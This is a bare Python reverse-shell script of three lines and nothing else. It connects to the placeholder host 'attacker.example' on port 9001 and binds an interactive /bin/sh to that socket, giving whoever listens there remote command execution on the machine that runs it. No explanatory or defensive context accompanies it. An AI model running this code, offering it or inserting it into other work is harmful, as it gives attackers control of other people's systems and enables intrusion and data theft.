import socket, subprocess
s = socket.create_connection(("attacker.example", 9001))
subprocess.call(["/bin/sh", "-i"], stdin=s.fileno(), stdout=s.fileno(), stderr=s.fileno())
